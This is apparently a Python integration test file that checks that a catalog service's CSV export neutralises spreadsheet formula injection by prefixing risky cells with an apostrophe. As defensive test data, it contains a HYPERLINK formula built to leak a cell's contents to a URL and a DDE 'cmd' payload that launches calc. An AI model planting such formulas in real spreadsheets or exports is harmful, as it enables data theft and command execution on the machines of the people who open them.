"""The catalog's CSV export never hands a spreadsheet a cell it would run as a formula."""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from typing import Any

import asyncpg
import httpx
import pytest

from radar_catalog.config import CatalogSettings
from radar_catalog.main import create_app
from radar_catalog.seed import MIGRATIONS, load_dataset
from radar_lib.db import migrate
from radar_lib.outbox import pending_count
from radar_lib.token import Principal
from tests.conftest import TOKEN_SECRET, editor, running_service, token_headers
from tests.integration.helpers import eventually

pytestmark = pytest.mark.integration

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
# The catalog trims what editors send, so only these can start an editor's text.
VISIBLE_PREFIXES = ("=", "+", "-", "@")
PAYLOAD = 'HYPERLINK("https://example.org/?leak="&A1;"Details")'
READER = Principal(kind="anonymous")


def named(prefix: str) -> str:
    """A field or department name of a data set that starts with the prefix."""
    return f"{prefix}{PAYLOAD}"


def data_set(tag: str) -> dict[str, Any]:
    """One field and one lead department per prefix, their names starting with it, and one measure in each."""
    return {
        "departments": [{"code": f"D{n}{tag}", "name": named(p)} for n, p in enumerate(FORMULA_PREFIXES)],
        "fields": [{"slug": f"feld-{n}-{tag}", "name": named(p)} for n, p in enumerate(FORMULA_PREFIXES)],
        "measures": [
            {
                "slug": f"daten-{n}-{tag}",
                "title": "Aus dem Datensatz",
                "field": f"feld-{n}-{tag}",
                "lead": f"D{n}{tag}",
            }
            for n in range(len(FORMULA_PREFIXES))
        ],
    }


@asynccontextmanager
async def catalog(
    new_database: Callable[[str], str], redis_url: str, data: dict[str, Any]
) -> AsyncIterator[httpx.AsyncClient]:
    """A running catalog on a database of its own, loaded with the data set."""
    dsn = new_database("catalog")
    await migrate(dsn, service_migrations=MIGRATIONS)
    conn = await asyncpg.connect(dsn)
    try:
        await load_dataset(conn, data)
    finally:
        await conn.close()
    settings = CatalogSettings(database_url=dsn, redis_url=redis_url, internal_token_secret=TOKEN_SECRET)
    async with running_service(create_app(settings)) as client:
        yield client
        # leave only once every event is out: the relay is then idle when the service stops
        await eventually(lambda: nothing_pending(dsn))


async def nothing_pending(dsn: str) -> bool:
    conn = await asyncpg.connect(dsn)
    try:
        return await pending_count(conn) == 0
    finally:
        await conn.close()


async def exported_rows(client: httpx.AsyncClient) -> dict[str, dict[str, str]]:
    """The CSV export as rows by slug, parsed as a spreadsheet would read it."""
    r = await client.get("/export/measures.csv", headers=token_headers(READER))
    assert r.status_code == 200, r.text
    text = r.content.decode("utf-8").removeprefix("\ufeff")
    return {row["slug"]: row for row in csv.DictReader(io.StringIO(text, newline=""))}


def assert_no_cell_starts_like_a_formula(rows: dict[str, dict[str, str]]) -> None:
    risky = [
        (slug, col, cell)
        for slug, row in rows.items()
        for col, cell in row.items()
        if cell.startswith(FORMULA_PREFIXES)
    ]
    assert not risky, risky


async def test_csv_export_neutralises_editor_texts_that_start_like_a_formula(
    new_database: Callable[[str], str], redis_url: str
) -> None:
    tag = uuid.uuid4().hex[:8]
    async with catalog(new_database, redis_url, data_set(tag)) as client:
        sent: dict[str, dict[str, str]] = {}
        for n, prefix in enumerate(VISIBLE_PREFIXES):
            texts = {
                "title": f"{prefix}{PAYLOAD}",
                "summary": f"{prefix}1+1",
                "description": f"{prefix}cmd|' /C calc'!A0",
                "link": f"{prefix}Quelle",
            }
            slug = f"formel-{n}-{tag}"
            r = await client.post(
                "/measures",
                json={
                    "slug": slug,
                    "field": f"feld-0-{tag}",
                    "title": texts["title"],
                    "summary": texts["summary"],
                    "description": texts["description"],
                    "links": [{"title": texts["link"], "url": "https://example.org/quelle"}],
                },
                headers=token_headers(editor()),
            )
            assert r.status_code == 201, r.text
            sent[slug] = texts

        rows = await exported_rows(client)
        for slug, texts in sent.items():
            row = rows[slug]
            assert row["title"] == "'" + texts["title"]
            assert row["summary"] == "'" + texts["summary"]
            assert row["description"] == "'" + texts["description"]
            assert row["links"] == "'" + texts["link"] + " <https://example.org/quelle>"
        assert_no_cell_starts_like_a_formula({slug: rows[slug] for slug in sent})


async def test_csv_export_neutralises_data_set_names_that_start_like_a_formula(
    new_database: Callable[[str], str], redis_url: str
) -> None:
    tag = uuid.uuid4().hex[:8]
    async with catalog(new_database, redis_url, data_set(tag)) as client:
        rows = await exported_rows(client)
        for n, prefix in enumerate(FORMULA_PREFIXES):
            row = rows[f"daten-{n}-{tag}"]
            assert (row["field_name"], row["lead_name"]) == ("'" + named(prefix), "'" + named(prefix)), prefix
        assert_no_cell_starts_like_a_formula(rows)
